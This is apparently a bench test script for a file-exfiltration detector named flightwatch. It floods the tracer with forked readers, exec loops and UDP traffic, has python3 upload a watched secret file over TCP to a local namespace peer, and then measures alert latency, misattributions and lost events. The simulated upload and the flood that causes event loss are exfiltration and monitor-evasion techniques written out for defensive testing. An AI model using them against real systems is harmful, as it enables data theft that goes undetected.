#!/usr/bin/env bash
# An exfiltration hidden in a flood. For DURATION seconds (default 30) the
# machine runs, all in the ground-station namespace:
#   - FORKERS loops (default 2) forking children that each read the
#     watched 64 KiB flood.tlog and exit: every child is tainted;
#   - a loop forking and executing /bin/true;
#   - a tainted process sending 64-byte UDP datagrams to a peer;
# and DELAY seconds in (default 10), python3 reads secret.tlog (the same
# watched directory) and uploads it over TCP. The tracer runs as the unit
# runs it (nice $TRACER_NICE, default the unit's -10); RING_BYTES sets a
# smaller ring buffer (config maps: events:), so that records are lost.
# Prints:
#   - the flood's rates, and the kernel events lost (the final stats);
#   - the time from the end of the upload to the first alert naming
#     python3's pid with secret.tlog, and what that alert named;
#   - misattributions: alerts naming secret.tlog with another process, or
#     python3's pid with another file (must be 0);
#   - when the first events-lost alert came, after the flood began;
#   - the collector's CPU seconds during the flood and how long SIGINT took.
# Needs root.
set -u
cd "$(dirname "$0")/../.."
DURATION=${DURATION:-30}
DELAY=${DELAY:-10}
FORKERS=${FORKERS:-2}
TRACER_NICE=${TRACER_NICE:--10}
make -s build/flightwatch || exit 1
make -s -C tests/helpers OUT="$PWD/build/tests" || exit 1
tmp=$(mktemp -d)
cc -O2 -Wall -Wextra -Werror tests/bench/flood.c -o "$tmp/flood" || exit 1
# shellcheck source=tests/bench/netns.sh
. tests/bench/netns.sh
pids=()
tracer=
cleanup() {
	[ -n "$tracer" ] && kill -INT "$tracer" 2>/dev/null
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	bench_netns_down
	rm -rf "$tmp" /sys/fs/bpf/fwbench-$$
}
trap cleanup EXIT
bench_netns_up || exit 1
nsenter --net="/run/netns/$peer" socat -u TCP4-LISTEN:9501,reuseaddr,fork \
	GOPEN:/dev/null &
pids+=($!)
nsenter --net="/run/netns/$peer" socat -u UDP4-RECV:9502 GOPEN:/dev/null &
pids+=($!)
mkdir "$tmp/w"
build/tests/fwmklog tlog 64k "$tmp/w/flood.tlog" &&
	build/tests/fwmklog tlog 256k "$tmp/w/secret.tlog" || exit 1
sleep 0.5

config=()
if [ -n "${RING_BYTES:-}" ]; then
	printf 'maps:\n  events: %s\n' "$RING_BYTES" >"$tmp/ring.yaml"
	config=(--config "$tmp/ring.yaml")
fi
nice -n "$TRACER_NICE" build/flightwatch run --json --no-default-rules \
	"${config[@]}" --watch "$tmp/w" --state-dir /sys/fs/bpf/fwbench-$$ --fresh \
	>"$tmp/out" 2>"$tmp/err" &
tracer=$!
for _ in $(seq 400); do
	grep -q '"ready"' "$tmp/out" && break
	sleep 0.05
done
grep -q '"ready"' "$tmp/out" || { echo "flood: the tracer did not start: $(cat "$tmp/err")"; exit 1; }

cpu_ticks() { awk '{print $14 + $15}' "/proc/$tracer/stat"; }
ms() { date +%s%3N; }
gsx() { nsenter --net="/run/netns/$gs" "$@"; }

cpu0=$(cpu_ticks)
t0=$(ms)
for ((i = 0; i < FORKERS; i++)); do
	gsx "$tmp/flood" forkread "$DURATION" "$tmp/w/flood.tlog" >"$tmp/forkread.$i" &
	pids+=($!)
done
gsx "$tmp/flood" exec "$DURATION" >"$tmp/exec" &
pids+=($!)
gsx "$tmp/flood" udp "$DURATION" "$tmp/w/flood.tlog" 10.203.0.2 9502 >"$tmp/udp" &
pids+=($!)
sleep "$DELAY"
gsx python3 -c '
import socket, sys
data = open(sys.argv[1], "rb").read()
s = socket.create_connection(("10.203.0.2", 9501))
s.sendall(data)
s.shutdown(socket.SHUT_WR)
s.recv(1)
print(__import__("os").getpid())' "$tmp/w/secret.tlog" >"$tmp/py.pid"
t_sent=$(ms)
py=$(cat "$tmp/py.pid")
t_alert=
while [ $(($(ms) - t_sent)) -lt $(((DURATION + 30) * 1000)) ]; do
	if grep -q "secret.tlog" "$tmp/out" &&
		[ -n "$(jq -c --argjson pid "$py" 'select(.event.kind == "alert" and .process.pid == $pid and (.file.path // "" | endswith("secret.tlog")))' "$tmp/out" 2>/dev/null | head -n 1)" ]; then
		t_alert=$(ms)
		break
	fi
	sleep 0.05
done
wait "${pids[@]:2}" 2>/dev/null
cpu1=$(cpu_ticks)
t_stop=$(ms)
kill -INT "$tracer"
wait "$tracer"
t_stopped=$(ms)
tracer=

hz=$(getconf CLK_TCK)
cat "$tmp"/forkread.* "$tmp/exec" "$tmp/udp" | sed 's/^/flood: /'
stats=$(jq -c 'select(.event.action == "stats") | .flightwatch.stats' "$tmp/out" | tail -n 1)
echo "flood: kernel events lost: $(jq -r '.lost' <<<"$stats"), events: $(jq -c '.events' <<<"$stats"), pids_reused: $(jq -r '.pids_reused' <<<"$stats")"
if [ -n "$t_alert" ]; then
	echo "flood: upload by python3 (pid $py) alerted $(((t_alert - t_sent))) ms after it ended"
else
	echo "flood: upload by python3 (pid $py): NO alert naming it with secret.tlog"
fi
jq -c --argjson pid "$py" 'select(.event.kind == "alert" and .process.pid == $pid) |
	{action: .event.action, process: .process.name, file: .file.path, bytes: .destination.bytes, uncertain: .flightwatch.uncertain}' \
	"$tmp/out" | head -n 3 | sed 's/^/flood:   /'
wrong=$(jq -c --argjson pid "$py" 'select(.event.kind == "alert" and
	(((.file.path // "") | endswith("secret.tlog")) and .process.pid != $pid or
	 .process.pid == $pid and ((.file.path // "secret.tlog") | endswith("secret.tlog") | not)))' \
	"$tmp/out" | wc -l)
echo "flood: misattributed alerts: $wrong"
lost_at=$(jq -r 'select(.event.action == "events-lost") | ."@timestamp"' "$tmp/out" | head -n 1)
if [ -n "$lost_at" ]; then
	echo "flood: first events-lost alert $(($(date -d "$lost_at" +%s%3N) - t0)) ms after the flood began"
else
	echo "flood: no events-lost alert"
fi
echo "flood: collector CPU during the flood: $(awk -v t=$((cpu1 - cpu0)) -v hz="$hz" 'BEGIN { printf "%.1f", t / hz }') s of $(((cpu1 > 0 ? t_stop - t0 : 0) / 1000)) s; SIGINT to exit: $((t_stopped - t_stop)) ms"
